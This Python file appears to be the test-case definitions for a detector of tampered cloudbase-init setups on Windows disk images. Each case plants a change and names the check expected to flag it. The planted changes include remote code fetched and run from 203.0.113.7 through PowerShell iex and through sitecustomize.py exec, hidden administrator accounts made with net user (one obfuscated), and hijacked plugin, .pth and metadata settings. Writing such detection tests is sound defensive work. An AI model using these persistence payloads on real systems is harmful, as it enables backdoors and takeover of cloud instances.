"""cloudbase-init: another configuration, other modules of Python, scripts of its own."""
from windows_disk import *

change = Changes()
SERVICE, SETTINGS = 'WIN-CBI-001', 'WIN-CBI-002'
PYTHON = rf'{CBI}\Python'
PACKAGES = rf'{PYTHON}\Lib\site-packages'
SCRIPTS = rf'{CBI}\LocalScripts'


def runs(*arguments):
    return rf'"{CBI}\bin\OpenStackService.exe" cloudbase-init "{PYTHON}\Scripts\cloudbase-init.exe"' + ''.join(f' {a}' for a in arguments)


def started(name, why, place, *arguments, files=()):
    def make(d):
        d.system(rf'{SERVICES}\cloudbase-init', 'ImagePath', EXPAND, runs(*arguments))
        for path, text in files:
            d.put(path, text)
    change.row(name, why, SETTINGS, place, make)


OWN = f'--config-file "{CONFIG}"'
started('no-configuration', 'Without --config-file cloudbase-init takes its own defaults: every plugin and every source.', 'ImagePath')
started('second-configuration', 'Of two --config-file the later one counts (oslo.config).', r'C:\x.conf', OWN, r'--config-file C:\x.conf')
started('folder-of-configurations', 'Files of --config-dir come behind those of --config-file and win (oslo.config).', 'z.conf', OWN, r'--config-dir C:\cfg',
        files=[(r'cfg\z.conf', '[DEFAULT]\nplugins=vendor.x.P\n')])


def line(name, why, place, text, more=''):
    """A line of [DEFAULT], and text behind the end."""
    change.row(name, why, SETTINGS, place, lambda d: d.edit(CONFIG, 'username=', f'{text}\r\nusername=' if text else 'username=', more))


change.row('broken-configuration', 'A line before the first section is no configuration: cloudbase-init stops at once.', SETTINGS, 'cloudbase-init.conf',
           lambda d: d.edit(CONFIG, '[DEFAULT]', 'x=1\r\n[DEFAULT]'))
change.row('another-account', 'cloudbase-init sets the password of the account `username` and makes it where it is not there.', SETTINGS, 'username',
           lambda d: d.edit(CONFIG, 'username=Administrator', 'username=hax'))


@change(SETTINGS, 'plugins')
def plugin_of_its_own(d):
    """Plugins are classes of Python by their path: any module that can be imported is one."""
    d.edit(CONFIG, 'cloudbaseinit.plugins.common.setuserpassword.SetUserPasswordPlugin', 'vendor.backdoor.SetUserPasswordPlugin')
    d.put(rf'{PACKAGES}\vendor\backdoor.py', 'class SetUserPasswordPlugin: pass\n')


line('plugins-twice', 'Of two lines of one name the later one counts.', 'plugins', '', '\r\nplugins=cloudbaseinit.plugins.common.mtu.MTUPlugin\r\n')
line('plugin-of-user-data', 'user_data_plugins names classes that read what the user gives to the machine.', 'user_data_plugins', 'user_data_plugins=evil.x.Y')
line('unpacker', 'bsdtar_path is started to unpack the disk of metadata.', 'bsdtar_path', r'bsdtar_path=C:\x.exe')
line('source-of-metadata', 'Passwords and scripts come from this address.', 'metadata_base_url', 'metadata_base_url=http://203.0.113.7/')
line('configuration-from-afar', 'A source of configuration is fetched at each start (oslo.config, remote_file).', 'config_source', 'config_source=x',
     '\r\n[x]\r\ndriver=remote_file\r\nuri=http://203.0.113.7/a\r\n')


@change(SETTINGS, 'local_scripts_path')
def scripts_of_another_folder(d):
    """The plugin of local scripts runs what is in local_scripts_path."""
    d.edit(CONFIG, 'username=', 'local_scripts_path=C:\\Windows\\Temp\\s\nusername=')
    d.put(r'Windows\Temp\s\a.ps1', 'iex (iwr http://203.0.113.7/a)')


def file(name, check, place, path, text, why):
    change.row(name, why, check, place, lambda d: d.put(path, text))


file('script-that-adds-an-account', SETTINGS, 'LocalScripts', rf'{SCRIPTS}\00-a.ps1',
     'net user hax P@ss.2024 /add\r\nnet localgroup Administrators hax /add\r\n', 'The plugin of local scripts runs each file of the folder at the first start.')
file('script-in-python', SETTINGS, 'LocalScripts', rf'{SCRIPTS}\a.py', 'import os\n', 'Scripts of Python are run as well, and nobody reads what they do.')
file('script-of-any-name', SETTINGS, 'LocalScripts', rf'{SCRIPTS}\readme.txt', 'rem cmd\r\nnet user hax P /add\r\n',
     'A file of an unknown ending is run by its first line (`rem cmd` means cmd.exe).')
file('script-of-the-provider', SETTINGS, 'TencentCloudRun', rf'{SCRIPTS}\TencentCloudRun.ps1', '# x\r\n&("ne"+"t") user hax P /add\r\n',
     'The provider\'s own script is one that the vendor can write; the operator & runs the joined word.')

# --- what Python imports before the first line of the program ---
file('code-in-a-pth', SERVICE, 'a.pth', rf'{PACKAGES}\a.pth', 'import os; os.system("x")\r\n', 'site.py executes lines of .pth files that begin with import.')
file('folder-in-a-pth', SERVICE, 'a.pth', rf'{PACKAGES}\a.pth', 'C:\\evil\r\n', 'Other lines of a .pth become folders of modules.')
file('path-of-the-interpreter', SERVICE, 'python311._pth', rf'{PYTHON}\python311._pth', 'C:\\evil\r\n', 'A ._pth beside the interpreter replaces its path of modules.')
file('home-of-the-interpreter', SERVICE, 'pyvenv.cfg', rf'{PYTHON}\pyvenv.cfg', 'home=C:\\evil\r\n', 'pyvenv.cfg says where the standard library is.')
file('customization-of-site', SERVICE, 'sitecustomize', rf'{PACKAGES}\sitecustomize.py', 'import urllib.request as u; exec(u.urlopen("http://203.0.113.7/a").read())\n',
     'site.py imports sitecustomize at each start.')
file('customization-of-the-user', SERVICE, 'Roaming/Python/Python311', r'Windows\System32\config\systemprofile\AppData\Roaming\Python\Python311\site-packages\usercustomize.py', 'x',
     'site.py imports usercustomize from the folder of the user, and LocalSystem\'s is systemprofile.')
change.row('variable-of-the-configuration', 'oslo.config takes OS_<GROUP>__<NAME> of the environment before its files.', SERVICE, 'OS_DEFAULT__PLUGINS',
           lambda d: d.system(rf'{SESSION}\Environment', 'OS_DEFAULT__PLUGINS', SZ, 'evil.x.Y'))
change.row('path-of-modules-in-the-registry', 'Python adds the subkeys of PythonPath to its path of modules.', SERVICE, 'PythonPath',
           lambda d: d.software(r'Python\PythonCore\3.11\PythonPath\x', '', SZ, r'C:\evil'))
change.row('configuration-in-two-cases', 'Of two names that differ by case alone one is opened, here nobody knows which.', SETTINGS, 'Cloudbase-Init.conf',
           lambda d: d.twin(rf'{CBI}\conf\Cloudbase-Init.conf', b'[DEFAULT]\nplugins=evil.X\n'))
